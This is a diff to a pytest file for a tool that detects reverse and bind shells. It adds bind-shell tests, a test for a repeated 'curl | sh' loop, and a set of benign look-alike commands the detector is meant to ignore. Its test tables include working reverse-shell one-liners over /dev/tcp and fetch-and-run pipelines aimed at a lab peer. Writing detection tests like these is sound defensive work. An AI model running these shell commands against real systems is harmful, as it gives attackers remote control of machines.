@@ -20,7 +20,7 @@ import pytest
 from agentwatch.demo.hosts import PYTHON, Host, Lab
 from agentwatch.demo.materials import clean_environment
 from tests.lab import PROGRAMS, script
-from tests.programs.shell_peer import BOUND_PORT, PORT, SCRIPT_PORT, TLS_PORT
+from tests.programs.shell_peer import BOUND_PORT, MODEL_PORT, PORT, SCRIPT_PORT, TLS_PORT
 
 pytestmark = [pytest.mark.root, pytest.mark.skipif(os.geteuid() != 0, reason="needs root")]
 
@@ -47,9 +47,28 @@ class Peer:
 def peer() -> Iterator[Peer]:
     with Lab() as lab:
         certificate = lab.work / "certificate.pem"
-        request = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"]
+        request = [
+            "openssl",
+            "req",
+            "-x509",
+            "-newkey",
+            "ec",
+            "-pkeyopt",
+            "ec_paramgen_curve:P-256",
+            "-nodes",
+        ]
         subprocess.run(
-            [*request, "-days", "1", "-subj", "/CN=peer", "-keyout", certificate, "-out", lab.work / "public.pem"],
+            [
+                *request,
+                "-days",
+                "1",
+                "-subj",
+                "/CN=peer",
+                "-keyout",
+                certificate,
+                "-out",
+                lab.work / "public.pem",
+            ],
             check=True,
             capture_output=True,
         )
@@ -129,7 +148,7 @@ while {{[gets $s line] >= 0 && $line ne "exit"}} {{ catch {{exec /bin/sh << $lin
 REVERSE = {
     "bash >& /dev/tcp": (["bash", "-c", "bash -i >& /dev/tcp/{host}/{port} 0>&1"], "socket"),
     "bash exec 5<>": (
-        ["bash", "-c", 'exec 5<>/dev/tcp/{host}/{port}; cat <&5 | while read l; do $l 2>&5 >&5; done'],
+        ["bash", "-c", "exec 5<>/dev/tcp/{host}/{port}; cat <&5 | while read l; do $l 2>&5 >&5; done"],
         None,
     ),
     "sh <&196": (["bash", "-c", "exec 196<>/dev/tcp/{host}/{port}; sh <&196 >&196 2>&196"], "socket"),
@@ -172,8 +191,8 @@ def prepared(command: list[str], peer: Peer, folder: Path) -> list[str]:
     if command[:2] == ["ncat", "sh"]:  # needs ncat, runs sh
         command = command[1:]
     words = [
-        word.format(host=peer.host.ipv4, port=PORT, tls=TLS_PORT)
-        if "{host}" in word or "{port}" in word or "{tls}" in word
+        word.format(host=peer.host.ipv4, port=PORT, tls=TLS_PORT, page=SCRIPT_PORT, model=MODEL_PORT)
+        if any(name in word for name in ("{host}", "{port}", "{tls}", "{page}", "{model}"))
         else word
         for word in command
     ]
@@ -194,3 +213,71 @@ def test_reverse_shells_are_certain(peer: Peer, watcher: Watcher, tmp_path: Path
     assert via in (None, events[-1]["Via"])
     port = TLS_PORT if "ssl" in name else PORT
     assert all(alert["flow"]["remote"] == f"{peer.host.ipv4}:{port}" for alert in told)
+
+
+@pytest.mark.parametrize(("how", "via"), [("bind", "socket"), ("bind-pipes", "pipe"), ("bind-pty", "pty")])
+def test_bind_shells_are_certain(peer: Peer, watcher: Watcher, how: str, via: str) -> None:
+    told = watcher(script("holder", how, peer.host.ipv4, BOUND_PORT))
+    assert [alert["event"]["Behaviour"] for alert in told] == ["bind_shell"] * len(told)
+    assert told[-1]["event"]["Stage"] == "certain"
+    assert told[-1]["event"]["Via"] == via
+    assert told[-1]["flow"]["local"].endswith(f":{BOUND_PORT}")
+
+
+def test_a_script_taken_from_afar_again_and_again_is_told_once(peer: Peer, watcher: Watcher) -> None:
+    page = f"http://{peer.host.ipv4}:{SCRIPT_PORT}/c"
+    told = watcher(["sh", "-c", f"for n in 1 2 3 4 5; do curl -s {page}?$n | sh; done"])
+    (alert,) = told
+    assert (alert["event"]["Kind"], alert["event"]["Rounds"]) == ("remote_script_loop", 3)
+    assert alert["flow"]["remote"] == f"{peer.host.ipv4}:{SCRIPT_PORT}"
+
+
+HARNESS = script("harness")
+NODE_HARNESS = """
+const tls = require("tls"), run = require("child_process");
+const shell = run.spawn("/bin/bash", []); shell.stdout.resume();
+let turns = 0;
+const model = tls.connect({{port: {model}, host: "{host}", rejectUnauthorized: false}}, () => model.write("go\\n"));
+model.on("data", data => {{
+  if (turns++ == 8) process.exit(0);
+  shell.stdin.write("uname -a\\n");
+  run.exec(JSON.parse(data).command, (error, out) => model.write(JSON.stringify(out) + "\\n"));
+}});
+"""
+HONEST = {
+    "an installer": ["sh", "-c", "curl -s http://{host}:{page}/install.sh | sh"],
+    "three installers": ["sh", "-c", "for n in a b c; do curl -s http://{host}:{page}/$n.sh | sh; done"],
+    "a probe": [
+        "bash",
+        "-c",
+        "timeout 1 bash -c </dev/tcp/{host}/{page}; timeout 1 bash -c 'true </dev/tcp/{host}/{page}'",
+    ],
+    "a page read by bash": [
+        "bash",
+        "-c",
+        r"exec 3<>/dev/tcp/{host}/{page}; printf 'GET / HTTP/1.0\r\n\r\n' >&3; cat <&3; id; uname -a",
+    ],
+    "a harness with pipes": [*HARNESS, "pipes", "{host}", "{model}"],
+    "a harness with a terminal": [*HARNESS, "pty", "{host}", "{model}"],
+    "a harness with one shell a command": [*HARNESS, "commands", "{host}", "{model}"],
+    "a harness with a queue in Redis": [*HARNESS, "redis", "{host}", "{model}"],
+    "a coding agent in node": ["node", "-e", NODE_HARNESS],
+    "a tool server over stdio": [*HARNESS, "tools", "{host}", "{model}"],
+    "a program run through a pipe": [
+        "sh",
+        "-c",
+        "curl -s http://{host}:{page}/x | python3 -c 'import sys; sys.stdin.read()' | cat",
+    ],
+    "make": ["sh", "-c", "printf 'all:\\n\\tid | cat\\n\\tuname -a | wc -c\\n' | make -s -f -"],
+    "tmux": [
+        "sh",
+        "-c",
+        "tmux -L aw-$$ -f /dev/null new-session -d 'id; uname -a'; tmux -L aw-$$ kill-server; true",
+    ],
+}
+
+
+@pytest.mark.parametrize("name", HONEST)
+def test_honest_work_is_left_alone(peer: Peer, watcher: Watcher, tmp_path: Path, name: str) -> None:
+    told = watcher(prepared(HONEST[name], peer, tmp_path), code=None if name == "a probe" else 0)
+    assert [alert["event"] for alert in told] == []
